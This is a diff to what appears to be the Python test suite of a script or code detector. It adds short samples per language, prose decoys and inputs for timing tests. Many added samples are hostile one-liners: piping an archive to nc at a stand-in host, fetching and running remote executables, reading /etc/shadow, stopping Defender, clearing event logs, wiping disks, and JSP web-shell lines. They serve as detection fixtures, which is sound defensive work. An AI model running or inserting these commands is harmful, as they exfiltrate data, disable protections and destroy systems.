@@ -33,6 +33,7 @@ CODE = {
         "Private Sub Class_Initialize\r\nx = 1\r\nEnd Sub\r\n",
         "For i=1 To Len(a) Step 2 : b=b&ChrW(\"&H\"&Mid(a,i,2)) : Next\n"),
     "PowerShell code": (
+        "$u = 'https://h.example/a.exe'\n", ". $x\n", "\"calc\" | cmd\n", "@\"\ncalc\n\"@\n", "iwr h.example;.\\a.exe\n", "[CmdletBinding()]\nparam()\n",
         "Write-Host lab\n", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "$w=[wmiclass]'Win32_Process'\n", "Get-ChildItem -Recurse | Remove-Item\n",
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
         "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
@@ -40,6 +41,9 @@ CODE = {
         "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "pwsh -NoP -W 1 -encodedcommand SQBFAFgA\n",
         "Write-Output \"lab\"\r\n", "[Ref].Assembly.GetType($a)\n", "\r\nfunction Get-Lab {\n  1\n}\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
+        "net stop WinDefend\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
+        "esentutl.exe /y \\\\h.example\\a.exe /d c:\\a.exe\n", "explorer.exe \\\\h.example\\a.exe\n", "mklink /d c:\\x \\\\h.example\\s\n", "calc.exe\n",
+        "cipher /w:c:\n", "\"%windir%\\System32\\conhost.exe\" --headless cmd\n", "copy \"%~f0\" \"%APPDATA%\"\n",
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
         "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
         "taskkill /f /im a.exe\n", "copy /b a+b c & c\n",
@@ -47,17 +51,22 @@ CODE = {
         "cmd /v:on /c \"set p=a&&!p!\"\n", "finger a@h.example | cmd\n",
         "icacls c:\\x /grant everyone:f\n", "sc config wuauserv start= disabled\n", "netsh advfirewall set allprofiles state off\n"),
     "Python code": (
+        "for p in range(3):\n    go(p)\n", "class A(object):\n    pass\n", "print 'lab'\n", "with open('a', 'w') as f:\n    f.write('x')\n",
+        "import pyautogui\npyautogui.press('win')\n",
         "def main():\n    pass\n", "import pty;pty.spawn('/bin/sh')\n", "import pathlib,webbrowser\n", "try:\n    import winreg\nexcept ImportError:\n    pass\n",
         "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n",
         "getattr(__builtins__,'ev'+'al')(x)\n",
         "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n", "import pip\npip.main(['install', 'a'])\n"),
     "JavaScript code": (
         "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
-        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n",
+        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "top.location.href = 'https://h.example/a.exe';\n", "import System;\r\nimport System.IO;\r\n",
+        "const f=()=>{g()};\n", "let t=new Function(a);\n", "!function(){a}();\n", "fetch('https://h.example/a').then(go)\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n",
         "eval(String.fromCharCode(97,61,49));\n", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()\n", "$=~[];$={a:++$}\n",
-        "function/**/ go(a)/**/ {\n",
         "[].constructor.constructor('return WScript')().Echo(1);\n"),
     "Unix code": (
+        "sudo systemctl enable --now a\n", "xattr -d com.apple.quarantine a.app\n", "cat <<EOF | sudo tee /etc/cron.d/a\n", "id; cat /etc/shadow\n",
+        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n",
+        "display dialog \"Password:\" default answer \"\"\n", "tar czf - x | nc h.example 443\n",
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
         "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n",
         "busybox wget http://h.example/a -O-|ash\n",
@@ -65,8 +74,15 @@ CODE = {
         "security find-generic-password -wa Chrome\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
     "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "F1::Run calc\n"),
     "Lua code": ("package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
-    "PHP code": ("<?=`$_GET[0]`?>\n",),
-    "server page": ("<%eval request(\"c\")%>", "<% eval(request(\"c\")) %>"),
+    "PHP code": ("<?=`$_GET[0]`?>\n", "<script language=\"php\">go();</script>", "<?\necho 1;\n?>"),
+    "code that starts a program": (
+        "using System.Diagnostics;\nProcess.Start(\"calc\");\n", "\"id\".execute().text\n", "exec xp_cmdshell 'id';\n",
+        "(shell-command \"id\")\n", "library(x)\nsystem(\"id\")\n", "[Service]\nExecStart=/tmp/a\n"),
+    "code in blocks": (
+        "function go(a, b) {\n", "function/**/ go(a)/**/ {\n", "run() {\n x\n}\n", "while (1) {\n x }\n", "foreach my $f (glob('*')) {\n", "try {\n a\n}\n",
+        "function go { x }\n"),
+    "server page": ("<%eval request(\"c\")%>", "<% eval(request(\"c\")) %>",
+        "<%Process p = Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"),
 }
 
 
@@ -85,6 +101,10 @@ def test_code_is_known_by_its_statements(what: str, name: str) -> None:
     "Run 5 km, swim\nCall Anna\nSend, please, the list.\n", "Chmod 755 is explained below.\nSource: (annual report)\n", "Add-Type and New-Item are commands.\n",
     "Dear all,\nwe copy /and/ paste.\nCD /DVD\nGoto page 3.\nEcho of the past > future\n", "$5,000 = NT$160,000\n$ = dollar\n| a | b |\n", "1.5 2.5\n3.5 4.5\n",
     "interface Gi0/1\n ip address 10.0.0.1\n!\n", "2026-11-21 09:00 INFO Start-Process failed\n", "[2026] :: minutes\n[x]: y\n",
+    "Start the project \"X\" on Monday\nStop by\nNet start date: May\nType: C\nCopy: legal department\nMove to page 3\nDel Monte foods\n",
+    "Open the file - see below\nCat food, 3 tins\nService hours 9-5\nEcho Park /Los Angeles\nSecurity desk: 2 -3 people\n",
+    "try: it works\nclass C: 3 items\nfor us in Taipei: good news\nwhile (as said) we wait\nif (and only if) it rains\n",
+    "copy \"i18n\"\nsource \"http://h.example\"\nexec 512/tcp\n// md\n", "CC = gcc\nRM = rm -f\nsystem (see page 3)\n", "a => b; b => {c}\n$x = 5\nx = 'y'\n",
     "How to say it: print('lab') or MsgBox \"lab\".\n", "print (the report)\nMsgBoxes are gone\n", "Dim sum\nSet lunch 120\n",
     "A write-output device; filter press-room (new)\n", "The [ref] assembly, the function get-together (Friday)\n", "$=~ costs; a = [] + []\n",
 ])
@@ -116,7 +136,8 @@ def test_no_program_of_pictures_or_documents_opens_text_full_of_signs() -> None:
 
 
 @pytest.mark.parametrize("line", [b"&", b"(", b"| ", b"\nset a=", b"\nrun ", b"$a=", b"/*", b"'", b"\"\"\"", b"<#", b"def a(", b"if exist ", b"[a", b"; x\n", b"\n", b"\r\n",
-                                  b" \r\n", b"\x0c\n", b"Dim a\n", b"\t\n  "])
+                                  b" \r\n", b"\x0c\n", b"Dim a\n", b"\t\n  ", b"net ", b"\ncat a a a ", b"\nfor a in b", b"\ndef a\n", b"'a' | ", b"if (", b"x() ", b"copy \"",
+                                  b"\n=> {", b"reg a a "])
 def test_hostile_texts_cost_little(line: bytes) -> None:
     begun = time.process_time()
     look(line * (300_000 // len(line)), "a.dat")
